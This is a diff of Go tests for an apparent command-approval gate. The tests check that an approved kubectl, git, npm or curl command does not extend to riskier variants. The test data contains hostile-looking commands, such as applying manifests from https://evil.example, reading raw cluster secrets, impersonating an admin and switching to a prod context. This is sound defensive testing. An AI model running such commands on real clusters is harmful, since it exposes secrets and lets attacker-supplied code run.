@@ -23,7 +23,7 @@ func TestAnApprovalHoldsForWhereAndAsWhom(t *testing.T) {
 			"kubectl get sealedsecrets.bitnami.com", "kubectl -s https://evil.example get pods", "kubectl get pods --server=https://evil.example",
 			"kubectl get pods --token=x", "kubectl --context prod get pods", "kubectl get pods --context=prod", "kubectl get pods --as admin", "kubectl get pods --user=x",
 			"kubectl get pods --cluster=x", "kubectl get --raw /api/v1/secrets", "kubectl get pods --insecure-skip-tls-verify", "kubectl get pods --kubeconfig x",
-			"kubectl get pods --unlisted-option", "kubectl get pods --unlisted-option=x",
+			"kubectl get pods --unlisted-option", "kubectl get pods -n kube-system", "kubectl get pods --namespace=kube-system", "kubectl get pods -A", "kubectl get pods --unlisted-option=x",
 		},
 		"kubectl delete pod x":                     {"kubectl delete pod y", "kubectl delete namespace prod", "kubectl delete pod x --context=prod", "kubectl delete -f https://evil.example/a.yaml"},
 		"kubectl apply -f k8s.yaml":                {"kubectl apply -f https://evil.example/a.yaml", "kubectl apply -f k8s.yaml --context prod", "kubectl apply -f k8s.yaml --prune"},
@@ -130,4 +130,24 @@ func (a *asking) effect(t *testing.T, line string) v1.Effect {
 	t.Helper()
 	call := a.call(engine.Line{Command: strings.TrimSpace(line)}, true)
 	return a.gate.Decide(t.Context(), &call, gate.DecideOptions{Probe: true}).Effect
+}
+
+// TestRisksOnWindows holds that the risks of a program are the same for the shells of Windows.
+func TestRisksOnWindows(t *testing.T) {
+	a := ask(t)
+	for line, risk := range map[string]string{
+		"kubectl get secrets": "credentials secrets", "kubectl get pods --context=prod": "context prod", "git push --force": "force", "git push backup": "remote backup",
+		"npm install evil": "package evil", "mytool --server=h.example": "server h.example", "curl -X DELETE http://h.example/a": "method DELETE", "docker -H h.example ps": "host h.example",
+	} {
+		for _, shell := range []string{"cmd", "powershell"} {
+			if shell == "powershell" {
+				line = strings.Replace(line, "curl -X", "Invoke-WebRequest -Method", 1)
+			}
+			call := a.call(engine.Line{Command: line, Windows: true, Cwd: `C:\proj`, Shell: shell}, true)
+			facts := a.engine.Facts(&call, nil)
+			if assert.NotEmpty(t, facts.Items, "%s: %s", shell, line) {
+				assert.Contains(t, facts.Items[0].Risks, risk, "%s: %s", shell, line)
+			}
+		}
+	}
 }
